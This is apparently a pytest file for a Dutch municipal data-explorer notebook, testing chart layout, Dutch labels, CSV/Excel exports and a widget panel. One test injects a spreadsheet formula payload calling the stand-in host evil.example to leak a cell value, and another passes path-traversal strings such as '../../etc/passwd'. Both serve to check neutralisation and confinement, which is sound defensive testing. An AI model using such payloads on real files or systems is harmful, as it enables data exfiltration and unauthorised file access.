"""The verkenner draws every catalog series well and exports the view for Dutch Excel.

Every series of the live catalog (data/) is drawn in both publication modes (nieuwste, alle publicaties) and the
drawn figure is measured: no legend over the source line, no tick labels that touch, Dutch month names on a
month axis, every value label either placed or in the table, no series id in a legend, no colour used twice in
one legend, tables of at most MAX_COLUMNS columns of figures. The notebook runs without a browser; the exports
keep text as text (no live formula) and write percentages the same way in both files. The browser side is
tests/browser.
"""

import csv
import html
import io
import os
import re
import stat
import time
from pathlib import Path

import pandas as pd
import pytest

from sdlib.data.catalog import model, series_ids
from sdlib.data.errors import SdlibError
from sdlib.present import explore, panels, plot
from sdlib.report.execute import execute_notebook

pytestmark = pytest.mark.notebooks

ROOT = Path(__file__).resolve().parents[2]
STEM = "jeugdhulp_3jaar_aandeel_en_jeugdhulp_jeugdigen_alle_publicaties"
MONTHS = {"jan", "feb", "mrt", "apr", "mei", "jun", "jul", "aug", "sep", "okt", "nov", "dec"}
SHOTS = Path(os.environ.get("SDLIB_SCREENSHOTS", "/tmp/browser"))


def _outputs(nb, mime):
    return "".join(str(o.get("data", {}).get(mime, "")) for c in nb.cells for o in c.get("outputs", []))


# ---------------------------------------------------------------------------------------------------------
# Every series, both modes: measured on the drawn figure


def _drawn(fig):
    from matplotlib.backends.backend_agg import FigureCanvasAgg

    FigureCanvasAgg(fig)
    fig.canvas.draw()
    return fig.canvas.get_renderer()


def _box(artist, renderer):
    b = artist.get_window_extent(renderer)
    return (b.x0, b.y0, b.x1, b.y1)


def _overlap(a, b, slack=0.5) -> bool:
    return a[0] + slack < b[2] and b[0] + slack < a[2] and a[1] + slack < b[3] and b[1] + slack < a[3]


def _tick_texts(axis):
    out = []
    for ticks in (axis.get_major_ticks(), axis.get_minor_ticks()):
        for t in ticks:
            label = t.label1
            if t.get_visible() and label.get_visible() and label.get_text().strip():
                out.append(label)
    return out


def _table_cells(table_html: str) -> list[str]:
    return [html.unescape(re.sub(r"<.*?>", "", c)) for c in re.findall(r"<td[^>]*>.*?</td>", table_html)]


def _header_count(table_html: str) -> int:
    head = re.search(r"<thead>(.*?)</thead>", table_html).group(1)
    return len(re.findall(r"<th", head))


CASES = [(sid, vintage) for sid in series_ids() for vintage in ("latest", "all")]


@pytest.mark.parametrize("series_id, vintage", CASES, ids=[f"{s}-{v}" for s, v in CASES])
def test_every_series_is_drawn_well(series_id, vintage):
    fig, tabs, text = explore.view(series_id, vintage=vintage)
    renderer = _drawn(fig)
    tables_html = [t.data for t in tabs]
    cells = {c.rstrip("*") for t in tables_html for c in _table_cells(t)}
    from matplotlib.text import Text

    sources = [t for t in fig.findobj(Text) if t.get_text().startswith("Bron:") and t.get_visible()]
    assert len(sources) == 1, "precies één bronregel onder de grafiek"
    source_box = _box(sources[0], renderer)
    legends = [ax.get_legend() for ax in fig.axes if ax.get_legend() is not None] + list(fig.legends)
    for legend in legends:
        assert not _overlap(_box(legend, renderer), source_box), "legenda over de bronregel"
        texts = [t.get_text().replace("\n", " ") for t in legend.get_texts()]
        # an id that is not also its own reader's label ('vrijwilligers' is both)
        ids = {s for s in series_ids() if model().series[s].short != s}
        assert not set(texts) & ids, f"reeks-id in de legenda: {texts}"
        colours = [
            tuple(h.get_facecolor()) if hasattr(h, "get_facecolor") and not hasattr(h, "get_color") else h.get_color()
            for h, t in zip(legend.legend_handles, texts)
            # the marks (a target, voorlopig, an earlier series, a part of a year, an outcome not sure) share colours
            if not any(w in t for w in ("begroting", "doel", "voorlopig", "eerdere reeks", "volledig", "niet zeker"))
        ]
        assert len({str(c) for c in colours}) == len(colours), f"een kleur twee keer in de legenda: {texts}"
        levels = [
            t
            for t in texts
            if not any(w in t for w in ("begroting", "doel", "voorlopig", "eerdere reeks", "niet zeker"))
        ]
        assert len(levels) <= max(panels.MAX_LINES, 4), f"te veel lijnen of kleuren in één paneel: {texts}"
    month_axis = False
    for ax in fig.axes:
        for axis in (ax.xaxis, ax.yaxis):
            labels = _tick_texts(axis)
            boxes = [_box(t, renderer) for t in labels]
            for i, a in enumerate(boxes):
                for b in boxes[i + 1 :]:
                    assert not _overlap(a, b), f"ticklabels raken elkaar: {[t.get_text() for t in labels]}"
        minor = [t.get_text() for t in _tick_texts(ax.xaxis) if t in [m.label1 for m in ax.xaxis.get_minor_ticks()]]
        if minor:
            month_axis = True
            assert set(minor) <= MONTHS, f"maandas zonder Nederlandse maandnamen: {minor}"
        for t in _tick_texts(ax.xaxis):
            assert not re.fullmatch(r"\d{4}[a-z]{3}", t.get_text()), t.get_text()  # never '2019jan'
        layer = plot.label_layer(ax)
        if layer is None:
            continue
        placed = {t.get_text() for t in layer.placed}
        for cand in layer.candidates:
            value_text = cand[4]
            assert value_text in placed or value_text in cells, f"waarde {value_text} staat niet in grafiek of tabel"
    rows = explore.view_data(series_id, vintage=vintage)
    if rows.attrs.get("has_month") and rows["_t"].nunique() > 1:
        assert month_axis, "maandcijfers zonder maandas"
    for t in tables_html:
        assert _header_count(t) - 1 <= panels.MAX_COLUMNS, "tabel breder dan het scherm"
        assert "NaN" not in t and "nan" not in re.sub(r"<.*?>", " ", t).split()
    assert "NaN" not in text


def test_many_categories_become_small_panels_or_bars_with_few_colours():
    lay = explore.layout("bijstand_uitkeringen_per_regeling")  # the 2019 count per regeling (in no report)
    assert lay.kind == "line" and all(p.levels <= panels.MAX_LINES for p in lay.panels)
    assert {p.title for p in lay.panels} >= {"Participatiewet", "IOAZ"}  # 2.700 beside 8: a panel each
    lay = explore.layout("poh_jeugd_trajecten_aandeel")
    assert lay.kind == "bars" and lay.panels[0].levels == 3  # 2018, 2019 (1e halfjaar), 2024
    lay = explore.layout("programma_financien")
    assert len(lay.panels) == 4 and all(p.categories <= panels.MAX_BARS for p in lay.panels)


def test_month_tables_and_files_speak_dutch():
    parts = panels.table_parts(explore.layout("bijstand_instroom"))
    assert parts[0]["index_label"] == "maand"
    assert list(parts[0]["values"].index) == ["januari 2019", "april 2019", "juli 2019", "augustus 2019"]
    assert explore.export_name("jeugdhulp_instroom", None, "latest") == "jeugdhulp_instroom_nieuwste"
    assert explore.export_name("a", "b", "all") == "a_en_b_alle_publicaties"


def test_notes_explain_what_the_chart_leaves_out_or_sets_apart():
    lay = explore.layout("inzet_tevreden")
    text = " ".join(panels.notes(lay))
    assert "begroting 2022" in text.lower() and "0,0%" in text and "geen doel" in text
    assert not (lay.panels[0].targets["value"] == 0).any()  # the 0% is not drawn as a target
    assert "Trendbreuk in 2023" in text
    text = " ".join(panels.notes(explore.layout("jeugdhulp_instroom")))
    assert "Trendbreuk in 2016" in text and "geen gewone instroom" in text
    fig = explore.chart("jeugdhulp_instroom")
    legend = [t.get_text() for ax in fig.axes if ax.get_legend() for t in ax.get_legend().get_texts()]
    assert any("eerdere reeks (niet vergelijkbaar)" in t.replace("\n", " ") for t in legend)


def test_revisions_stand_side_by_side_with_every_label(tmp_path):
    fig = explore.chart("jeugdhulp_3jaar_aandeel", vintage="all")
    _drawn(fig)
    placed = {t.get_text() for ax in fig.axes for t in plot.label_layer(ax).placed}
    assert {"45,9%", "46,1%", "48,0%"} <= placed
    xs = sorted(x for ax in fig.axes for ln in ax.get_lines() for x in ln.get_xdata() if 2022.5 < x < 2023.5)
    assert len(xs) >= 2 and xs[-1] - xs[0] > 0.3  # the two publications of 2023 do not hide each other


def test_catalog_overview_is_dutch_and_complete():
    overview = explore.catalog_overview()
    assert list(overview.columns) == ["reeks", "titel", "eenheid", "gewenste richting", "thema", "jaren"]
    assert not overview.isna().any().any() and "NaN" not in overview.to_string()
    assert "Financiën" in set(overview["thema"]) and "financien" not in set(overview["thema"])
    row = overview.set_index("reeks").loc["jeugdhulp_instroom"]
    assert row["jaren"] == "2015-2019" and row["eenheid"] == "aantal"
    assert "percent" not in set(overview["eenheid"]) and "lower" not in set(overview["gewenste richting"])
    table = explore.catalog_table("financien").data
    assert "gewenste richting" in table and "Financiën" in table and "NaN" not in table


# ---------------------------------------------------------------------------------------------------------
# The notebook and the exports


def test_verkenner_runs_headless_and_exports_excel_csv_and_png(tmp_path):
    nb = execute_notebook(
        ROOT / "notebooks" / "explore" / "verkenner.ipynb",
        {"export_map": str(tmp_path), "vergelijk": "jeugdhulp_jeugdigen"},
    )
    files = sorted(p.name for p in tmp_path.iterdir())
    assert files == [f"{STEM}.csv", f"{STEM}.png", f"{STEM}.xlsx"]
    mode = 0o666 & ~_umask()
    assert all(stat.S_IMODE((tmp_path / f).stat().st_mode) == mode for f in files)  # not the 0600 of a temp file

    raw = (tmp_path / f"{STEM}.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == [explore.PERCENT_NOTE]
    header = rows[1]
    assert header[:7] == ["reeks", "titel", "jaar", "periode", "omschrijving", "soort", "waarde"]
    col = {name: i for i, name in enumerate(header)}
    share_2023 = [
        r[col["waarde"]]
        for r in rows[2:]
        if r[col["reeks"]] == "jeugdhulp_3jaar_aandeel" and r[col["jaar"]] == "2023" and r[col["soort"]] == "realisatie"
    ]
    assert sorted(share_2023) == ["45,9", "46,1"]  # both vintages, in procentpunten
    assert (tmp_path / f"{STEM}.png").read_bytes()[:4] == b"\x89PNG"

    text = _outputs(nb, "text/markdown") + _outputs(nb, "text/html")
    assert "Bron: Programmabegroting 2025; Jaarstukken 2024" in text  # publications in the order they appeared
    assert "Eenheid: procent; gewenste richting: lager is beter" in text and "Eenheid: percent" not in text
    assert "Toelichting bij de cijfers" in text and "Herziet de 45,9% uit de PB 2025." in text
    assert "gewenste richting" in text and "NaN" not in text  # the catalog overview in Dutch
    assert str(tmp_path.resolve()) in text  # the message names the absolute folder
    assert _outputs(nb, "image/png")  # the chart of the static cell is an image of its own Figure


def test_excel_and_csv_write_percentages_the_same_way(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    xlsx, csv_path, _ = explore.export_view(
        "jeugdhulp_3jaar_aandeel", tmp_path, compare="jeugdhulp_jeugdigen", vintage="all"
    )
    ws = openpyxl.load_workbook(xlsx)["Cijfers"]
    assert ws["A1"].value == explore.PERCENT_NOTE
    header = [c.value for c in ws[2]]
    assert header == explore.EXPORT_COLUMNS and ws[2][0].font.bold and ws.freeze_panes == "A3"
    col = {name: i for i, name in enumerate(header)}
    seen = {}
    for row in ws.iter_rows(min_row=3):
        seen.setdefault(row[col["reeks"]].value, (row[col["waarde"]].value, row[col["waarde"]].number_format))
        assert row[col["jaar"]].number_format == "0"  # 2023, not 2.023
        assert row[col["peildatum"]].number_format == "d-m-yyyy"
        assert all(c.data_type != "f" for c in row)
    value, fmt = seen["jeugdhulp_3jaar_aandeel"]
    assert fmt == "#,##0.0" and 40 < value < 50  # procentpunten: 45,9, as in the CSV
    assert seen["jeugdhulp_jeugdigen"][1] == "#,##0"  # 4.747
    lines = list(csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8-sig")), delimiter=";"))
    assert any(r[6] == "45,9" for r in lines[2:])


def test_text_that_looks_like_a_formula_is_neutralised_in_both_files(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    rows = explore.export_rows("jeugdhulp_3jaar_aandeel", vintage="all")
    rows = pd.concat([rows, rows], ignore_index=True)  # enough rows for every kind of start
    evil = '=HYPERLINK("http://evil.example/?x="&A1;"klik")'
    starts = [evil, "+31 6", "-2 punten", "@SUM(A1)", "\tx", "\rx"]
    rows.loc[: len(starts) - 1, "toelichting"] = starts
    rows.loc[0, "tabel"] = "=1+1"
    book = openpyxl.load_workbook(io.BytesIO(explore._xlsx_bytes(rows, "=tekst\n-regel")))
    ws = book["Cijfers"]
    col = [c.value for c in ws[2]].index("toelichting") + 1
    got = [ws.cell(row=r, column=col) for r in range(3, 3 + len(starts))]
    assert [c.value for c in got] == ["'" + s for s in starts]
    cells = [c for ws_ in book for row in ws_.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str)) and all(c.data_type != "f" for c in cells)
    assert book["Toelichting"]["A1"].value == "'=tekst"
    lines = list(csv.reader(io.StringIO(explore._csv_bytes(rows).decode("utf-8-sig")), delimiter=";"))
    col = lines[1].index("toelichting")
    assert [r[col] for r in lines[2 : 2 + len(starts)]] == ["'" + s for s in starts]
    assert not [f for r in lines for f in r if f[:1] and f[:1] in "=+@\t\r"]
    assert explore.neutralise(12) == 12 and explore.neutralise("tekst") == "tekst"


def test_export_folder_and_file_names_are_confined(tmp_path, monkeypatch):
    with pytest.raises(SdlibError, match="datamap"):
        explore.export_view("jeugdhulp_jeugdigen", ROOT / "data" / "export")
    with pytest.raises(SdlibError, match="datamap"):
        explore.export_view("jeugdhulp_jeugdigen", ROOT / "data" / ".." / "data")
    with pytest.raises(Exception):  # an unknown or climbing series id writes nothing
        explore.export_view("../../etc/passwd", tmp_path)
    assert list(tmp_path.iterdir()) == []
    stem = explore.export_name("a/../../b", None, "../x")
    assert "/" not in stem and ".." not in stem and stem.startswith("a_b")
    with pytest.raises(SdlibError, match="buiten de exportmap"):
        explore._confined(tmp_path.resolve(), "../x.csv")
    monkeypatch.setenv("SDLIB_ROOT", str(ROOT))
    folder = explore.default_export_folder()
    assert folder == ROOT / "notebooks" / "export" / "verkenner"  # inside the folder JupyterLab serves
    assert "notebooks/export/" in (ROOT / ".gitignore").read_text(encoding="utf-8")
    message = explore.export_message_html([folder / "x_nieuwste.xlsx"])
    assert "export/verkenner" in message and "Downloaden" in message


def test_view_uses_figures_pyplot_does_not_know():
    import matplotlib.pyplot as plt

    before = plt.get_fignums()
    fig, tabs, text = explore.view("jeugdhulp_3jaar_aandeel", compare="jeugdhulp_jeugdigen", vintage="all")
    assert plt.get_fignums() == before  # post_execute's flush_figures cannot redraw it
    assert len(fig.axes) == 2 and len(tabs) == 2
    assert "Eenheid: procent; gewenste richting: lager is beter" in text
    assert "Eenheid: aantal" in text
    assert explore.png_bytes(fig)[:4] == b"\x89PNG"


# ---------------------------------------------------------------------------------------------------------
# The widget panel


def _shown(panel) -> dict:
    result = panel.children[-1].value
    m = re.search(r'class="sdlib-choice" data-series="([^"]*)" data-compare="([^"]*)" data-vintage="([^"]*)"', result)
    charts = re.findall(r'class="sdlib-chart" data-series="([^"]*)"', result)
    return {"choice": m.groups() if m else None, "charts": charts}


def test_widget_starts_from_the_parameters_and_shows_only_the_last_choice():
    pytest.importorskip("ipywidgets")
    panel = explore.explorer(
        theme="jeugd", series_id="jeugdhulp_jeugdigen", compare="jeugdhulp_3jaar_aandeel", vintage="pb2025"
    )
    theme_w, series_w, compare_w, vintage_w = panel.children[:4]
    busy = panel.children[4].children[1]
    result = panel.children[-1]
    assert panel.drawer.wait()
    assert (series_w.value, compare_w.value, vintage_w.value) == (
        "jeugdhulp_jeugdigen",
        "jeugdhulp_3jaar_aandeel",
        "pb2025",
    )
    assert _shown(panel) == {
        "choice": ("jeugdhulp_jeugdigen", "jeugdhulp_3jaar_aandeel", "pb2025"),
        "charts": ["jeugdhulp_jeugdigen", "jeugdhulp_3jaar_aandeel"],
    }
    assert series_w.layout.width == "100%" and series_w.style.description_width
    assert "procent" in result.value and "lower" not in result.value and "Toelichting bij de cijfers" in result.value
    assert [label for label, _ in theme_w.options][-1] == "Financiën"

    vintage_w.value = "all"
    assert "bezig met tekenen" in busy.value and result.layout.visibility == "hidden"  # at once, not after drawing
    ids = [v for _, v in series_w.options]
    for sid in ids[:3]:
        series_w.value = sid
    compare_w.value = ""
    assert panel.drawer.wait()
    assert _shown(panel) == {"choice": (ids[2], "", "all"), "charts": [ids[2]]}
    assert busy.value == "" and result.layout.visibility == "visible"

    theme_w.value = "participatie"  # the series list follows at once, and the view with it
    assert all(explore.model().series[v].theme == "participatie" for _, v in series_w.options)
    assert panel.drawer.wait()
    assert _shown(panel)["choice"][0] == series_w.value


def test_widget_change_of_one_series_takes_under_a_second():
    pytest.importorskip("ipywidgets")
    panel = explore.explorer(theme="jeugd", series_id="jeugdhulp_jeugdigen", vintage="latest")
    series_w = panel.children[1]
    assert panel.drawer.wait()
    timings = []
    for sid in ["jeugdhulp_instroom", "jeugdhulp_3jaar_aandeel", "jeugdhulp_jeugdigen_per_type", "jeugdhulp_uitstroom"]:
        start = time.perf_counter()
        series_w.value = sid
        assert panel.drawer.wait()
        timings.append(time.perf_counter() - start)
        assert _shown(panel)["charts"] == [sid]
    print("verkenner: seconden per wissel", [round(t, 2) for t in timings])
    # aim: under a second (0,14-0,58 s measured on an idle machine); the bounds leave room for a busy CI machine
    assert max(timings) < 4.0 and sorted(timings)[len(timings) // 2] < 1.5


def _umask():
    mask = os.umask(0)
    os.umask(mask)
    return mask


@pytest.fixture(autouse=True, scope="module")
def _charts_to_look_at():
    """Save the charts of the many-category series (SDLIB_SCREENSHOTS, /tmp/browser) to look at."""
    yield
    SHOTS.mkdir(parents=True, exist_ok=True)
    for sid, vintage in [
        ("bijstand_uitkeringen_per_regeling", "latest"),
        ("poh_jeugd_trajecten_aandeel", "latest"),
        ("jeugdhulp_3jaar_aandeel", "all"),
        ("bijstand_instroom", "latest"),
        ("inzet_tevreden", "latest"),
    ]:
        png = explore.png_bytes(explore.chart(sid, vintage=vintage), dpi=110)
        (SHOTS / f"verkenner_grafiek_{sid}_{vintage}.png").write_bytes(png)
